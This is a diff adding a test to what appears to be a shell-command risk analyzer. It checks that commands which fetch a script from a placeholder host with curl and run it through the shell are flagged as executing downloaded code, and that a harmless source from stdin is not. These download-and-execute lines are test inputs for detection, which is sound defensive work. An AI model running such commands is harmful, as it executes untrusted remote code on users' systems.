@@ -610,3 +610,12 @@ def test_arrays_and_an_assigned_ifs_expand_as_the_shell_does() -> None:
         assert "reads:credential" in tags(f), command
         assert any(d.host == "x.example" for d in f.destinations), command
     assert not facts('files=(a.py b.py); ruff check "${files[@]}"').destinations
+
+
+def test_code_sourced_from_stdin_or_a_download_substitution_is_downloaded() -> None:
+    for command in (
+        '. /dev/stdin <<< "$(curl -s https://x.example/e)"',
+        "bash -s < <(curl -s https://x.example/e)",
+    ):
+        assert "executes:downloaded" in tags(facts(command)), command
+    assert "executes:downloaded" not in tags(facts('source /dev/stdin <<< "export A=1"'))
